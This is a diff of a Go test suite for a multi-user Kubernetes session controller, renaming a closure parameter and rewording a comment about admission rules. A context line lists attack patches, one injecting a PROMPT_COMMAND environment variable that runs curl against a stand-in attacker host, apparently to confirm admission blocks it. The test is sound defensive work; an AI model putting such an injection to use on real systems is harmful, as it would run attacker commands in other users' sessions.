@@ -46,8 +46,8 @@ var _ = Describe("Users who share a namespace", func() {
 		pods, err := podsOf(ctx, s.UID)
 		Expect(err).NotTo(HaveOccurred())
 
-		patch := func(who client.Client, text string) error {
-			return who.Patch(ctx, newSession("owned"), client.RawPatch(types.MergePatchType, []byte(text)))
+		patch := func(user client.Client, text string) error {
+			return user.Patch(ctx, newSession("owned"), client.RawPatch(types.MergePatchType, []byte(text)))
 		}
 		for _, attack := range []string{
 			`{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"curl https://evil.example/"}]}}`,
@@ -76,7 +76,7 @@ var _ = Describe("Users who share a namespace", func() {
 
 	It("leave no desktop behind when a session loses its finalizer before its members have confirmed", func(ctx SpecContext) {
 		s := awaitRunning(ctx, create(ctx, newSession("stripped")))
-		// As an administrator: admission denies it to everybody else but the hub.
+		// As an administrator: admission denies it to every user but the hub.
 		Expect(hub.Patch(ctx, newSession("stripped"), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`)))).To(Succeed())
 		Expect(hub.Delete(ctx, newSession("stripped"))).To(Succeed())
 		awaitGone(ctx, s)
